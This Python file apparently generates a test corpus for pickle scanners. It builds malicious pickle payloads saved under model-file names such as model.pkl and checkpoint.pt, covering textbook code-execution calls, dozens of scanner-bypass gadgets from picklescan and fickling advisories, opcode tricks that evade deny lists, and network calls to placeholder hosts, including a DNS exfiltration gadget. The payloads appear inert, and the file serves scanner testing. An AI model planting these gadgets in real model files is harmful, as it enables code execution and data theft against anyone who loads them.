"""Textbook payloads and the gadgets of published advisories."""

from malicious_ops import (
    CODE_FIELDS, HOST, MARKER, MARSHALLED, NOWHERE, PYTHON, SHELL, URL,
    Build, Call, Drop, Inst, Obj, attr, call, dump, g, system, wrap, body, u, v, x,
)

NAMES = ("model.pkl", "weights.pickle", "pytorch_model.bin", "checkpoint.pt", "model.pkl", "scaler.p", "epoch_12.ckpt")

TEXTBOOK = [
    ("posix-system", call("posix:system", SHELL)),
    ("nt-system", call("nt:system", SHELL)),
    ("os-popen", call("os:popen", SHELL)),
    ("os-execvp", call("os:execvp", "echo", ["echo", MARKER])),
    ("os-spawnlp", call("os:spawnlp", 1, "echo", "echo", MARKER)),
    ("os-remove", call("os:remove", NOWHERE)),
    ("subprocess-popen", call("subprocess:Popen", ["echo", MARKER])),
    ("subprocess-run", call("subprocess:run", ["echo", MARKER])),
    ("subprocess-call-shell", call("subprocess:call", ["sh", "-c", SHELL])),
    ("subprocess-check-output", call("subprocess:check_output", ["echo", MARKER])),
    ("subprocess-getoutput", call("subprocess:getoutput", SHELL)),
    ("builtins-eval", call("builtins:eval", PYTHON)),
    ("builtins-exec", call("builtins:exec", "import os; os.system('echo CLEANBILL-INERT')")),
    ("builtins-exec-compile", call("builtins:exec", call("builtins:compile", PYTHON, "<s>", "exec"))),
    ("builtins-import", attr(call("builtins:__import__", "os"), "system")),
    ("runpy-run-code", call("runpy:_run_code", PYTHON, {})),
    ("webbrowser-open", call("webbrowser:open", URL)),
    ("socket-connect", call("socket:create_connection", (HOST, 443))),
    ("shutil-rmtree", call("shutil:rmtree", NOWHERE)),
    ("pickle-loads", call("pickle:loads", dump(system(), 2))),
    ("sys-exit", call("sys:exit", 1)),
    ("ctypes-cdll", call("ctypes:CDLL", NOWHERE + ".so")),
    ("urllib-urlopen", call("urllib.request:urlopen", URL)),
]

# (advisory, short name, tree, note). One sample per advisory and gadget.
PICKLESCAN = [
    ("GHSA-655q-fx9r-782v, CVE-2025-1716", "pip-main", call("pip:main", ["install", "--help"]), ""),
    ("CVE-2025-46417", "linecache-ssl", Drop(
        call("linecache:getline", NOWHERE, 1), call("ssl:get_server_certificate", (HOST, 443))), "DNS exfiltration"),
    ("GHSA-f7qq-56ww-84cr, CVE-2025-10157", "asyncio-unix-events",
     call("asyncio.unix_events:_UnixSubprocessTransport._start", None, SHELL, True, None, None, None, 0), "submodule"),
    ("GHSA-f7qq-56ww-84cr, CVE-2025-10157", "distutils-spawn", call("distutils.spawn:spawn", ["echo", MARKER]), ""),
    ("GHSA-4r9r-ch6f-vxmx", "bottleneck-cprofile",
     call("torch.utils.bottleneck.__main__:run_cprofile", PYTHON, {}), ""),
    ("GHSA-4whj-rm5r-c2v8", "bottleneck-autograd",
     call("torch.utils.bottleneck.__main__:run_autograd_prof", PYTHON, {}), ""),
    ("GHSA-86cj-95qr-2p4f", "guardbuilder-get", call("torch._dynamo.guards:GuardBuilder.get", None, PYTHON), ""),
    ("GHSA-f4x7-rfwp-v3xw", "shapeenv-guards",
     call("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", None, PYTHON, []), ""),
    ("GHSA-f745-w6jp-hpxx", "collect-env-run", call("torch.utils.collect_env:run", SHELL), ""),
    ("GHSA-jhph-76pp-mggw", "collect-env-run-and-read-all", call(
        "torch.utils.collect_env:run_and_read_all", g("torch.utils.collect_env:run"), SHELL), ""),
    ("GHSA-h3qp-7fh3-f8h4", "datapipes-basichandlers",
     call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pkl", dump(system(), 4)), "nested pickle"),
    ("GHSA-vr7h-p6mm-wpmh", "execwrapper",
     call("torch.jit.unsupported_tensor_ops:execWrapper", PYTHON, {}, {}), ""),
    ("GHSA-vv6j-3g6g-2pvj", "config-load", call(
        "torch.utils._config_module:ConfigModule.load_config", None, dump(system(), 4)), "nested pickle"),
    ("GHSA-5qwp-399c-mjwf", "trace-run", call("trace:Trace.run", call("trace:Trace"), PYTHON), ""),
    ("GHSA-g344-hcph-8vgg", "trace-runctx", call("trace:Trace.runctx", call("trace:Trace"), PYTHON, {}, {}), ""),
    ("GHSA-x696-vm39-cp64", "profile-run", call("profile:Profile.run", call("profile:Profile"), PYTHON), ""),
    ("GHSA-6vqj-c2q5-j97w", "profile-runctx",
     call("profile:Profile.runctx", call("profile:Profile"), PYTHON, {}, {}), ""),
    ("GHSA-49gj-c84q-6qm9", "cprofile-run", call("cProfile:run", PYTHON), ""),
    ("GHSA-9w88-8rmg-7g2p", "cprofile-runctx", call("cProfile:runctx", PYTHON, {}, {}), ""),
    ("GHSA-f54q-57x4-jg88", "grammar-loads", call(
        "lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), dump(system(), 2)), "nested"),
    ("GHSA-p9w7-82w4-7q8m", "pgen-make-label",
     call("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, None, PYTHON), ""),
    ("GHSA-3vg9-h568-4w9m", "idle-fetch-completions",
     call("idlelib.autocomplete:AutoComplete.fetch_completions", None, PYTHON, 1), ""),
    ("GHSA-6w4w-5w54-rjvr", "idle-autocomplete-entity",
     call("idlelib.autocomplete:AutoComplete.get_entity", None, PYTHON), ""),
    ("GHSA-7cq8-mj8x-j263", "idle-fetch-tip", call("idlelib.calltip:Calltip.fetch_tip", None, PYTHON), ""),
    ("GHSA-8r4j-24qv-fmq9", "idle-calltip-entity", call("idlelib.calltip:get_entity", PYTHON), ""),
    ("GHSA-9xph-j2h6-g47v", "idle-settext", call("idlelib.debugobj:ObjectTreeItem.SetText", None, PYTHON), ""),
    ("GHSA-m869-42cg-3xwr", "idle-runcode", call("idlelib.pyshell:ModifiedInterpreter.runcode", None, PYTHON), ""),
    ("GHSA-j343-8v2j-ff7w", "idle-runcommand",
     call("idlelib.pyshell:ModifiedInterpreter.runcommand", None, PYTHON), ""),
    ("GHSA-3gf5-cxq9-w223", "idle-executive", call("idlelib.run:Executive.runcode", None, PYTHON), ""),
    ("GHSA-cj3c-v495-4xqh", "interactive-interpreter", call(
        "code:InteractiveInterpreter.runcode", call("code:InteractiveInterpreter"), PYTHON), ""),
    ("GHSA-fqq6-7vqf-w3fg", "doctest-debug-script", call("doctest:debug_script", PYTHON), ""),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip-run-pip", call("ensurepip:_run_pip", ["--version"], []), ""),
    ("GHSA-q77w-mwjj-7mqx", "subprocess-transport", call(
        "asyncio.unix_events:_UnixSubprocessTransport._start", None, ["echo", MARKER], False, None, None, None, 0), ""),
    ("GHSA-m273-6v24-x4m4", "distutils-write-file",
     call("distutils.file_util:write_file", NOWHERE, [MARKER]), "file write"),
    ("GHSA-4675-36f9-wf6r", "ctypes-windll", call("ctypes:WinDLL", "cleanbill-inert.dll"), ""),
    ("GHSA-4675-36f9-wf6r", "ctypes-pythonapi", Call(attr(g("ctypes:pythonapi"), "PyRun_SimpleString"),
                                                     PYTHON.encode()), ""),
    ("GHSA-84r2-jw7c-4r5q", "pydoc-locate", Call(
        call("operator:methodcaller", "system", SHELL), call("pydoc:locate", "os")), ""),
    ("GHSA-vqmv-47xg-9wpr", "pty-spawn", call("pty:spawn", ["echo", MARKER]), ""),
    ("GHSA-r8g5-cgf2-4m4m", "f2py-getlincoef", call("numpy.f2py.crackfortran:getlincoef", PYTHON, {"x": 1}), ""),
    ("GHSA-x843-g5mx-g377", "f2py-param-eval", call("numpy.f2py.crackfortran:param_eval", PYTHON, {}, {}, None), ""),
    ("GHSA-3329-ghmp-jmv5", "f2py-eval-length", call("numpy.f2py.crackfortran:_eval_length", PYTHON, {}), ""),
    ("GHSA-cffc-mxrf-mhh4", "f2py-eval-scalar", call("numpy.f2py.crackfortran:_eval_scalar", PYTHON, {}), ""),
    ("GHSA-rrxm-2pvv-m66x", "f2py-myeval", call("numpy.f2py.crackfortran:myeval", PYTHON, {}), ""),
    ("GHSA-6556-fwc2-fg2p", "numpy-runstring", call("numpy.testing._private.utils:runstring", PYTHON, {}), ""),
    ("GHSA-6556-fwc2-fg2p", "numpy-f2py-diagnose", call("numpy.f2py.diagnose:run_command", SHELL), ""),
    ("GHSA-955r-x9j8-7rhh", "operator-c-methodcaller", Call(
        call("_operator:methodcaller", "system", SHELL), call("builtins:__import__", "os")), "alias module"),
    ("GHSA-46h3-79wf-xr6c", "operator-c-attrgetter", Call(Call(
        call("_operator:attrgetter", "system"), call("builtins:__import__", "os")), SHELL), "alias module"),
    ("GHSA-hgrh-qx5j-jfwx", "smtplib", call("smtplib:SMTP", HOST), "network"),
    ("GHSA-hgrh-qx5j-jfwx", "ftplib", call("ftplib:FTP", HOST), "network"),
    ("GHSA-hgrh-qx5j-jfwx", "telnetlib", call("telnetlib:Telnet", HOST, 23), "network"),
    ("GHSA-hgrh-qx5j-jfwx", "xmlrpc", call("xmlrpc.client:ServerProxy", URL), "network"),
    ("GHSA-9726-w42j-3qjr", "io-fileio", Call(attr(call("_io:FileIO", "/etc/hostname"), "read")), "file read"),
    ("GHSA-9726-w42j-3qjr", "urllib-request", call("urllib.request:urlretrieve", URL, NOWHERE), ""),
    ("GHSA-9m3x-qqw2-h32h", "codetype", Call(call(
        "types:FunctionType", call("types:CodeType", *CODE_FIELDS), {"print": g("builtins:print")})), ""),
    ("GHSA-9m3x-qqw2-h32h", "cloudpickle-make-function", Call(call(
        "cloudpickle.cloudpickle:_make_function", call(
            Call(g("cloudpickle.cloudpickle:_builtin_type"), "CodeType"), *CODE_FIELDS), {}, "f", None, None)), ""),
    ("GHSA-m7j5-r2p5-c39r", "logging-filehandler", call("logging:FileHandler", NOWHERE), "file write"),
    ("GHSA-vvpj-8cmc-gx39", "resolve-name", Call(call("pkgutil:resolve_name", "os:system"), SHELL), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "uuid-command",
     call("uuid:_get_command_stdout", "echo", MARKER), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "imaplib-stream", call("imaplib:IMAP4_stream", SHELL), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "pyrepl-pager",
     call("_pyrepl.pager:pipe_pager", MARKER, "cat", "title"), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "pyrepl-tempfile", call("_pyrepl.pager:tempfile_pager", MARKER, "cat"), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "osx-support", call("_osx_support:_read_output", SHELL), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "osx-support-tool", call("_osx_support:_find_build_tool", "cc"), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "aix-support", call("_aix_support:_read_cmd_output", SHELL), ""),
    ("GHSA-g38g-8gr9-h9xp, CVE-2026-56315", "test-support",
     call("test.support.script_helper:assert_python_ok", "-c", PYTHON), ""),
    ("GHSA-7wx9-6375-f5wh", "profile-module-run", call("profile:run", PYTHON), ""),
    ("picklescan-issue-66", "importlib", Call(attr(call("importlib:import_module", "os"), "system"), SHELL), ""),
    ("picklescan-issue-66", "marshal", call("types:FunctionType", call("marshal:loads", MARSHALLED), {}), ""),
]

FICKLING = [
    ("GHSA-r7v6-mfhq-g3m2", "pty", call("pty:spawn", "true"), ""),
    ("GHSA-565g-hwwr-4pp3", "marshal-types", Call(call(
        "types:FunctionType", call("marshal:loads", MARSHALLED), {})), ""),
    ("GHSA-wfq2-52f7-7qvj", "runpy", call("runpy:run_path", NOWHERE + ".py"), ""),
    ("GHSA-q5qq-mvfm-j35x", "runpy-module", call("runpy:run_module", "this"), ""),
    ("GHSA-p523-jq9w-64x9", "cprofile", call("cProfile:run", PYTHON, None, -1), ""),
    ("GHSA-5hvc-6wx8-mvv4", "ctypes", Call(attr(call("ctypes:CDLL", None), "system"), SHELL.encode()), ""),
    ("GHSA-5hvc-6wx8-mvv4", "pydoc", call("pydoc:pipepager", MARKER, "cat"), ""),
    ("GHSA-5hwf-rc88-82xm", "importlib", call("importlib:import_module", "antigravity"), ""),
    ("GHSA-m6fh-58r7-x697", "code", call("code:interact"), ""),
    ("GHSA-m6fh-58r7-x697", "multiprocessing", call("multiprocessing.util:spawnv_passfds", b"/bin/echo",
                                                    [b"echo", MARKER.encode()], []), ""),
    ("GHSA-pc6j-px3p-rrj4", "uuid", call("uuid:_get_command_stdout", "echo", MARKER), ""),
    ("GHSA-r48f-3986-4f9c", "linecache", call("linecache:getlines", "/etc/hostname"), "file read"),
    ("GHSA-5cxw-w2xg-2m8h", "gc", call("gc:get_objects"), "reaches live objects"),
    ("GHSA-5cxw-w2xg-2m8h", "platform", call("platform:popen", SHELL), "removed in Python 3.8"),
    ("GHSA-6ggj-6f2q-f7mx", "interpreters", call("_interpreters:run_string", 0, PYTHON), ""),
    ("GHSA-6ggj-6f2q-f7mx", "xxsubinterpreters", call("_xxsubinterpreters:run_string", 0, PYTHON), ""),
    ("GHSA-cffv-grgg-g429", "allowlist-dead", Drop(
        call("_testcapi:run_in_subinterp", PYTHON), {"w": 1}), "module outside the deny list"),
    ("GHSA-wccx-j62j-r448", "hook-entry-point", call("_pickle:loads", dump(system(), 2)), "unhooked entry point"),
    ("GHSA-fphw-536r-4p88", "hook-unpickler", Call(attr(call(
        "_pickle:Unpickler", call("_io:BytesIO", dump(system(), 2))), "load")), "unhooked entry point"),
]


def hand_written():
    """Advisories about opcodes instead of names."""
    os_system = x("os") + x("system")
    yield ("GHSA-9gvj-pp9x-gcfr", "string-stack-global", wrap(
        b"S'os'\nS'system'\n\x93" + x(SHELL) + b"\x85R"), "STRING opcodes feed STACK_GLOBAL")
    yield ("picklescan-issue-14", "put-memoize", wrap(
        v("os") + b"p0\n0" + v("system") + b"\x940" + v("math") + b"q\x090h\x00h\x01\x93" + x(SHELL) + b"\x85R"),
        "PUT and MEMOIZE mixed")
    yield ("picklescan-issue-22", "memo-overwrite", wrap(
        u("math") + b"\x940" + u("os") + b"q\x000" + u("floor") + b"\x940" + u("system") + b"q\x010"
        + b"h\x00h\x01\x93" + u(SHELL) + b"\x85R"), "BINPUT overwrites what MEMOIZE stored")
    yield ("GHSA-h4rm-mm56-xf63", "builtins-import", dump(call("builtins:exec", PYTHON), 4),
           "import from builtins leaves no import node")
    yield ("GHSA-mxhj-88fx-4pcv", "obj-pop", dump(Drop(
        Obj(g("os:system"), SHELL), {"weights": [1, 2]}), 4), "OBJ result popped")
    yield ("GHSA-mhc9-48gj-9gp3", "reduce-build", dump(Build(
        call("os:system", SHELL), {"a": 1}), 4), "REDUCE then BUILD")
    yield ("GHSA-5j3x-jp52-966f", "dotted-attribute", dump(
        call(g("pathlib", "os.system"), SHELL), 5), "module `pathlib`, name `os.system`")
    yield ("GHSA-5j3x-jp52-966f", "dotted-torch", dump(
        call(g("torch", "os.system"), SHELL), 4), "through an allowed module")
    yield ("GHSA-mxhj-88fx-4pcv", "inst-pop", wrap(
        body(Inst("os", "system", SHELL), 1) + b"0" + os_system + b"00N", 1), "INST result popped")


def build(corpus):
    """Adds the groups `textbook` and `advisory`."""
    for proto in range(6):
        corpus.add("textbook", f"os-system-protocol-{proto}", "model.pkl", dump(system(), proto), "os.system",
                   note=f"protocol {proto}")
        corpus.add("textbook", f"posix-system-in-dict-protocol-{proto}", "weights.pkl", dump(
            {"epoch": 3, "state": {"w": [0.1, 0.2]}, "hook": call("posix:system", SHELL)}, proto),
            "call inside ordinary data", note=f"protocol {proto}")
    for number, (slug, tree) in enumerate(TEXTBOOK):
        proto = (4, 2, 3, 5, 0)[number % 5]
        corpus.add("textbook", slug, "model.pkl", dump(tree, proto), "well-known callable", note=f"protocol {proto}")
    for owner, table in (("picklescan", PICKLESCAN), ("fickling", FICKLING)):
        for number, (advisory, slug, tree, note) in enumerate(table):
            # Dotted names need STACK_GLOBAL, so protocol 4 or 5.
            corpus.add("advisory", slug, NAMES[number % len(NAMES)], dump(tree, (4, 5)[number % 2]),
                       f"gadget missing from {owner}", advisory, note)
    for number, (advisory, slug, data, note) in enumerate(hand_written()):
        corpus.add("advisory", slug, NAMES[number % len(NAMES)], data, "opcode trick of an advisory", advisory, note)
